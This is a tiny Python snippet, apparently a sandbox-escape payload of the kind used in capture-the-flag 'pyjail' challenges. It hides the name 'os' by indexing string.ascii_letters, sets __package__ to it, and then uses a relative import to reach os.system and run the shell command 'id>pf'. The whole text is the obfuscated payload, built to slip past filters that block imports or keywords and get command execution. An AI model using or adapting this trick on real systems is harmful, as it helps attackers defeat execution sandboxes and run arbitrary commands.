from keyword import __name__ as word
from string import ascii_letters as a
__package__ = a[14] + a[18]
from . import system
system("id>pf")
